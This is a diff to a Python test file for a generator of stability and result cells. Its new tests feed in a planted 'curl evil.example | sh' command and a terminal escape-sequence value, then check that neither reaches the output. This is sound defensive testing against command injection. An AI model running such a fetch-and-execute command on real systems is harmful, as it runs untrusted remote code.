@@ -108,7 +108,7 @@ def test_every_cell_is_filled_or_says_why_not(cards: list[Card]) -> None:
             if cell.low is not None and cell.high is not None:
                 assert cell.value is not None and cell.low <= cell.value <= cell.high
             if cell.source in ("sweep", "league"):
-                assert cell.date and cell.machine and cell.command
+                assert cell.date and cell.machine
 
 
 def stability_names() -> set[str]:
@@ -252,7 +252,11 @@ def test_stability_is_that_of_the_league() -> None:
     deviation = math.sqrt(sum((value - mean) ** 2 for value in values) / 4)
     assert cell.value == pytest.approx(deviation / mean)
     assert all(f"{value:g}" in cell.how for value in values)
-    assert cell.command == played.command
+    assert cell.command == "playground compare --league --seconds 20.0"
+    evil = msgspec.structs.replace(played, command="curl evil.example | sh")
+    assert stability.spread_cell(evil, "gan").command == cell.command
+    odd = msgspec.structs.replace(evil, recipe={**played.recipe, "data": "\x1b[201~ no data"})
+    assert stability.spread_cell(odd, "gan").command == ""
     cell = stability.diverged_cell(played, "gan")
     assert (cell.text, cell.value) == ("1 of 5", 0.2) and "It left the plane." in cell.how
     for missing in (stability.spread_cell(None, "gan"), stability.diverged_cell(played, "vae")):
